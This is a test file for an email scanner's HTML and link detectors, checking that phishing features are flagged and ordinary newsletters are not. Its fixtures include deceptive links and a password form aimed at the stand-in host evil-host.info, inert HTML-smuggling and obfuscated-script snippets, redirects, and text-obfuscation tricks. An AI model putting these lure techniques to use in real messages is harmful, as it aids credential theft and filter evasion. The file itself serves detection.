// Links and HTML through the whole intake: what lures do is named, what ordinary mail does stays quiet.
import { describe, expect, it } from 'vitest'
import { cpuMs } from '../../../../../tests/kit/cpu-clock.ts'
import { catalogue } from '../../catalogue-all.ts'
import { readMail } from '../../intake/index.ts'
import { defaultLimits, offlinePorts } from '../../ports.ts'
import { examineHtmlFile, html } from './html.ts'
import { links } from './links.ts'

const context = {
  ports: offlinePorts,
  limits: defaultLimits,
  outOfTime: () => false,
  authenticatedDomains: new Set<string>(),
}

const read = async (body: string, { from = 'Shop <news@shop.example.com>', type = 'text/html' } = {}) => {
  const text = `From: ${from}\r\nTo: anna@example.org\r\nSubject: Hello\r\nMIME-Version: 1.0\r\nContent-Type: ${type}; charset=utf-8\r\n\r\n${body}\r\n`
  const bytes = new TextEncoder().encode(text)
  return (await readMail(bytes, { limits: defaultLimits, outOfTime: () => false })).mail
}
const analyse = async (body: string, options?: { from?: string; type?: string }) => {
  const mail = await read(body, options)
  return [await html.run(mail, context), await links.run(mail, context)]
}
const idsOf = async (body: string, options?: { from?: string; type?: string }) =>
  (await analyse(body, options)).flatMap(({ findings }) => findings.map(({ id }) => id))
const a = (href: string, text: string): string => `<a href="${href}">${text}</a>`
const prose =
  'Dear reader, here is the long monthly letter of our small shop with news about bread, tea and the garden. '.repeat(4)

describe('links', () => {
  it.each([
    ['link-text-mismatch', `<p>${prose}${a('https://evil-host.info/x', 'https://www.shop-one.net/login')}</p>`],
    ['link-text-brand-mismatch', `<p>${prose}${a('https://evil-host.info/x', 'www.paypal.com')}</p>`],
    ['link-address-leads-to-web', `<p>${a('https://evil-host.info/x', 'help@shop-one.net')}</p>`],
    ['link-mailto-mismatch', `<p>${a('mailto:x@evil-host.info', 'help@shop-one.net')}</p>`],
    ['link-poses-as-file', `<p>${a('https://evil-host.info/x', 'Invoice 4711.pdf (120 KB)')}</p>`],
    ['link-single-stranger', `<p>${prose}${a('https://evil-host.info/x', 'Click here')}</p>`],
    ['link-strangers-only', `<p>${a('https://evil-host.info/x', 'Go')} ${a('https://evil-host.info/y', 'Stop')}</p>`],
    [
      'link-one-target-for-all',
      `<p>${['One', 'Two', 'Three'].map((t) => a('https://evil-host.info/x', t)).join(' ')}</p>`,
    ],
    [
      'link-unsubscribe-same-target',
      `<p>${a('https://evil-host.info/x', 'Claim')} ${a('https://evil-host.info/x', 'Unsubscribe')}</p>`,
    ],
    ['link-dead-links', `<p>${a('#', 'Privacy')} ${a('#', 'Help')} ${a('https://evil-host.info/x', 'Open')}</p>`],
    [
      'link-stranger-among-known',
      `<p>${a('https://www.netflix.com/a', 'A')} ${a('https://help.netflix.com/b', 'B')} ${a('https://evil-host.info/x', 'Pay')}</p>`,
    ],
    ['link-whole-body', `<a href="https://evil-host.info/x">${prose}</a>`],
    ['link-credential-action', `<p>${a('https://evil-host.info/x', 'Verify your account')}</p>`],
    ['link-credential-action', `<p>${a('https://evil-host.info/x', 'Konto jetzt bestätigen')}</p>`],
    ['link-wallet-action', `<p>${a('https://evil-host.info/x', 'Connect your wallet')}</p>`],
    ['link-messenger-only', `<p>${a('https://wa.me/15550100', 'Write to me')}</p>`],
    ['link-lone-document', `<p>${a('https://drive.google.com/file/d/abc', 'open')}</p>`],
    ['link-names-recipient', `<p>${a('https://evil-host.info/x', 'Release mail for anna@example.org')}</p>`],
    ['link-mailto-only', `<p>${a('mailto:x@evil-host.info', 'Report the user')}</p>`],
    ['link-mailto-many', `<p>${a('mailto:x@evil-host.info?cc=y@two.example,z@three.example', 'Unsubscribe')}</p>`],
    ['url-address', `<p>${a('https://evil-host.info/?anna@example.org', 'Open')}</p>`],
    ['url-data-scheme', `<p>${a('data:text/html;base64,PGgxPg==', 'Open')}</p>`],
  ])('finds %s', async (id, body) => {
    expect(await idsOf(body)).toContain(id)
  })

  it('says nothing about a newsletter whose tracker, pictures and texts belong together', async () => {
    const body = `<html><body><p>${prose}</p><img src="https://img.shop.example.com/a.png" width="600" height="200">
      ${a('https://click.shop.example.com/ls/click?upn=abc1', 'www.shop.example.com')} ${a('https://click.shop.example.com/ls/click?upn=abc2', 'Read more')}
      ${a('https://www.facebook.com/shop', 'Facebook')} ${a('https://click.shop.example.com/ls/click?upn=abc3', 'Unsubscribe')}</body></html>`
    expect(await idsOf(body)).toEqual([])
  })

  it('says nothing about a plain mail of a mailing list', async () => {
    const body =
      'See https://lists.example.net/pipermail/devel/2021-March/001234.html and http://localhost:8080/login\n\n> quoted\n'
    expect(await idsOf(body, { type: 'text/plain', from: 'Bea <bea@dev.example.net>' })).toEqual([])
  })

  it('counts a tracker shared by all links as a habit, not as a deceit', async () => {
    const links = ['www.shop-one.net', 'News', 'Unsubscribe'].map((text, i) =>
      a(`https://t.mail-house.net/c/${i}`, text),
    )
    const ids = await idsOf(`<p>${prose}${links.join(' ')}</p>`)
    expect(ids).toContain('link-text-tracked')
    expect(ids).not.toContain('link-text-mismatch')
  })

  it('reports each URL once as a scan, never as harmless, and as observables', async () => {
    const [, found] = await analyse(
      `<p>${a('https://x9.blob.core.windows.net/a/login.html', 'Go')} ${a('https://x9.blob.core.windows.net/a/login.html', 'Again')} ${a('http://45.83.64.1/', 'IP')}</p>`,
    )
    const scans = found?.scans ?? []
    expect(scans.map((scan) => (scan.type === 'url' ? scan.url : ''))).toEqual([
      'https://x9.blob.core.windows.net/a/login.html',
      'http://45.83.64.1/',
    ])
    expect(scans.map(({ verdict }) => verdict)).not.toContain('no_threats')
    expect(found?.observables).toContainEqual({ kind: 'ip', value: '45.83.64.1', role: 'link' })
  })

  it('counts repeats of one finding instead of repeating it', async () => {
    const ids = await idsOf(`<p>${[1, 2, 3].map((i) => a(`http://45.83.64.${i}/`, `IP ${i}`)).join(' ')}</p>`)
    expect(ids.filter((id) => id === 'url-ip-host')).toHaveLength(1)
  })
})

describe('html', () => {
  it.each([
    ['html-password-form', '<form action="https://evil-host.info/p"><input type="password" name="pw"></form>'],
    ['html-form-mailto', '<form action="mailto:x@evil-host.info"><input type="text" name="a"></form>'],
    ['html-smuggling', '<script>var b=new Blob([atob("AAAA")]);var u=URL.createObjectURL(b)</script>'],
    ['html-script-obfuscated', '<script>eval(unescape("%61%6c%65%72%74"))</script>'],
    ['html-script-redirect', '<script>window.location.href="https://evil-host.info/"</script>'],
    [
      'html-meta-refresh',
      '<html><head><meta http-equiv="refresh" content="0;url=https://evil-host.info/"></head><body>Wait</body></html>',
    ],
    ['html-hidden-text', `<p>${prose}</p><div style="display:none">${prose}${prose}</div>`],
    ['html-hidden-filler', `<p>Pay now</p><div style="display:none">${prose.repeat(8)}</div>`],
    ['html-split-words', '<p>Pa\u200bypal acc\u200bount pass\u200bword ver\u200bify</p>'],
    ['html-split-by-tags', '<p>Pay<b></b>pal acc<b></b>ount pass<b></b>word</p>'],
    ['html-split-by-comments', '<p>Pay<!-- x -->pal acc<!-- y -->ount pass<!-- z -->word</p>'],
    ['html-lookalike-letters', '<p>Your pаssword and your аccount</p>'],
    [
      'html-entity-text',
      `<p>${[...'verify your account password now or it will be closed for ever and ever again'].map((c) => `&#${c.charCodeAt(0)};`).join('')}</p>`,
    ],
    ['html-styled-letters', '<p>𝐖𝐞𝐥𝐜𝐨𝐦𝐞 to 𝐘𝐨𝐮𝐫 prize</p>'],
    ['html-nonsense-tags', '<p><xqzv>a</xqzv><wrtk>b</wrtk><plmo>c</plmo></p>'],
    ['html-blank-run', `<p>a</p>${'<br>'.repeat(30)}<p>b</p>`],
    ['html-style-filler', `<style>${'.a{color:red}'.repeat(400)}</style><p>Hello</p>`],
    ['html-comment-filler', `<p>${'<!-- filler -->'.repeat(20)}</p>`],
    ['html-saved-page', '<!-- saved from url=(0028)https://www.shop-one.net/login --><html><body>x</body></html>'],
    [
      'html-image-only',
      '<a href="https://evil-host.info/x"><img src="https://evil-host.info/a.png" width="600" height="800"></a>',
    ],
    ['html-free-image-host', `<p>${prose}</p><img src="https://i.imgur.com/abc.png" width="300" height="100">`],
    ['html-image-in-storage', `<p>${prose}</p><img src="https://storage.googleapis.com/x1/logo.png">`],
    [
      'html-images-elsewhere',
      `<p>${prose}</p><img src="https://pictures.example/logo.png">${a('https://evil-host.info/x', 'Go')}`,
    ],
    [
      'html-image-map',
      '<img src="https://evil-host.info/a.png" usemap="#m"><map name="m"><area href="https://evil-host.info/x"></map>',
    ],
  ])('finds %s', async (id, body) => {
    expect(await idsOf(body)).toContain(id)
  })

  it('notices that plain text and HTML are different mails', async () => {
    const other =
      'quarterly report of the committee on rivers lakes mountains forests meadows valleys bridges harbours islands castles villages towns museums libraries schools hospitals theatres gardens stations markets'
    const body = `--b\r\nContent-Type: text/plain\r\n\r\n${other}\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>Your account will be closed today, confirm the password within one day</p>\r\n--b--`
    expect(await idsOf(body, { type: 'multipart/alternative; boundary=b' })).toContain('html-plain-differs')
  })

  it('leaves the hidden preview line of a newsletter alone', async () => {
    const body = `<div style="display:none">Bread, tea and the garden: all the news of March</div><p>${prose}</p>`
    expect(await idsOf(body)).toEqual([])
  })

  it('examines HTML files', () => {
    const page = '<SCRIPT>var f=atob("AAAA");new Blob([f])</SCRIPT><form><input type="password"></form>'
    expect(examineHtmlFile(page, 'a.html').map(({ id }) => id)).toEqual(['html-smuggling', 'html-password-form'])
  })
})

describe('both', () => {
  it('cite only ids the catalogue has and declare all they cite', () => {
    for (const id of [...links.cites, ...html.cites]) expect(catalogue.has(id), id).toBe(true)
  })

  it.each([
    ['links', a('https://evil-host.info/', 'x').repeat(20_000)],
    [
      'distinct links',
      Array.from({ length: 5000 }, (_, i) => a(`https://h${i}.evil-host.info/${i}`, `t${i}`)).join(''),
    ],
    ['open comments', '<!--'.repeat(100_000)],
    ['line breaks', '<br>\u00a0'.repeat(100_000)],
    ['almost line breaks', '<br        '.repeat(50_000)],
    ['entities', '&#65;'.repeat(200_000)],
    ['soft hyphens', 'a\u00ad'.repeat(200_000)],
    ['empty tags', 'a<b></b>'.repeat(100_000)],
    ['scripts', '<script>'.repeat(50_000)],
    ['styles', '<style>'.repeat(50_000)],
    ['an endless link text', `<a href="https://evil-host.info/">${'a.'.repeat(200_000)}</a>`],
    ['verbs without nouns', a('https://evil-host.info/', 'verify '.repeat(17)).repeat(2000)],
  ])('look at hostile %s in bounded time', async (_, body) => {
    const mail = await read(body)
    const began = cpuMs()
    await html.run(mail, context)
    await links.run(mail, context)
    expect(cpuMs() - began).toBeLessThan(1000)
  })
})
